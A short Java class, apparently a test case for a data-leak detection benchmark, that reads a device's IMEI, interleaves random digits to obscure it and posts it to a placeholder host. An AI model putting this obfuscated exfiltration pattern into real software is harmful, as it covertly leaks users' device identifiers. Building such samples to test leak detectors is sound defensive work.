package org.corpus;

import java.security.SecureRandom;
import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** Every second digit counts. */
public class WithNoise extends Screen {
    @Override
    protected void act() throws Exception {
        StringBuilder text = new StringBuilder();
        for (char digit : Owner.imei(this).toCharArray()) {
            text.append(digit).append(new SecureRandom().nextInt(10));
        }
        Net.post("http://forms.corpus.example/noise", "text/plain", text.toString());
    }
}
